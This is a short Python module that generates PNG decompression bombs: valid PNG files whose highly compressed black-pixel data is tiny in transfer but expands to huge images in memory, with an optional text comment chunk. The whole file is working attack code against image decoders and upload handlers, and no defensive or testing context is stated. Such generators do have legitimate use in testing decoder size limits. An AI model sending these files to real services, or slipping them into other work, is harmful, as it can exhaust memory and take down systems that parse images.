"""Pictures that are small on the wire and large in memory."""

from __future__ import annotations

import functools
import struct
import zlib


def png_bomb(width: int, height: int, comment: bytes = b"") -> bytes:
    """A PNG of that many black pixels, in a few bytes for each thousand of them. Each comment is another picture."""
    header = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    text = _chunk(b"tEXt", b"Comment\0" + comment)
    return b"\x89PNG\r\n\x1a\n" + header + text + _chunk(b"IDAT", _black(width, height)) + _chunk(b"IEND", b"")


@functools.cache
def _black(width: int, height: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(width + 1)) for _ in range(height)) + packer.flush()


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
